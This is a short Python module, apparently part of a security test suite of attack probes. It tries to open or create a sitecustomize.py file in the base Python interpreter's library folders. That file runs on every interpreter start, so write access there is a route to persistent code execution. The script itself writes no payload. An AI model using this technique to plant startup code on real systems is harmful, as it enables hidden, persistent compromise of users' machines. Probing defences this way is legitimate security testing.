"""A sitecustomize module in the base interpreter's library."""
import glob
import os
import sys

from prelude import TARGETS, attack, first


def plant_base_python():
    folders = TARGETS.get("base_python") or (glob.glob(sys.base_prefix + "/lib/python3*/site-packages")
                                              + glob.glob(sys.base_prefix + "/lib/python3*"))
    return first([f + "/sitecustomize.py" for f in folders],
                 lambda path: os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))


attack(plant_base_python)
